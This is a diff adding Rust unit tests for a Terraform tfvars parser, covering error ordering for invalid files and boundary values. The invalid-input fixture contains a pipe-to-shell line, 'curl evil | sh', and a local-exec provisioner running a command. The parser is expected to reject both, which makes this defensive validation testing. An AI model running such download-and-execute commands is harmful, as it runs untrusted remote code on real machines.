@@ -153,3 +153,63 @@ fn a_parsed_file_feeds_back_into_a_draft() {
     .expect("re-resolves");
     assert_eq!(TfvarsValues::from(&again), values);
 }
+
+#[test]
+fn every_problem_is_reported_in_file_order_then_by_attribute() {
+    // Unknown attributes and blocks in the order they appear, then the string attributes,
+    // then the numbers: the order an operator reads them in the error comment.
+    let text = r#"
+user_data = "curl evil | sh"
+deployment_name = "x-${var.other}"
+vm_count = 4294967296
+provisioner "local-exec" {
+  command = "id"
+}
+gpu_type = upper("nvidia-tesla-t4")
+zone = "us-west1-a"
+gpu_count = "1"
+"#;
+    let Err(TfvarsError::Invalid(errors)) = parse_tfvars(text) else {
+        panic!("expected invalid values, got {:?}", parse_tfvars(text));
+    };
+    let fields: Vec<&str> = errors.iter().map(|e| e.field.as_str()).collect();
+    assert_eq!(
+        fields,
+        [
+            "user_data",
+            "provisioner",
+            "deployment_name",
+            "gpu_type",
+            "machine_type",
+            "vm_count",
+            "gpu_count",
+            "boot_disk_size_gb",
+        ]
+    );
+    insta::assert_snapshot!(errors.to_string());
+}
+
+#[test]
+fn a_complete_file_with_every_value_at_its_bounds_is_read() {
+    let text = "deployment_name = \"\"\nvm_count = 0\ngpu_type = \"t4\"\ngpu_count = 4294967295\nmachine_type = \"m\"\nzone = \"z\"\nboot_disk_size_gb = 10\n";
+    assert_eq!(
+        parse_tfvars(text),
+        Ok(TfvarsValues {
+            deployment_name: String::new(),
+            vm_count: 0,
+            gpu_type: "t4".into(),
+            gpu_count: u32::MAX,
+            machine_type: "m".into(),
+            zone: "z".into(),
+            boot_disk_size_gb: 10,
+        })
+    );
+    let negative = text.replace("vm_count = 0", "vm_count = -1");
+    let Err(TfvarsError::Invalid(errors)) = parse_tfvars(&negative) else {
+        panic!("a negative count is refused");
+    };
+    assert_eq!(
+        errors.iter().map(|e| e.field.as_str()).collect::<Vec<_>>(),
+        ["vm_count"]
+    );
+}
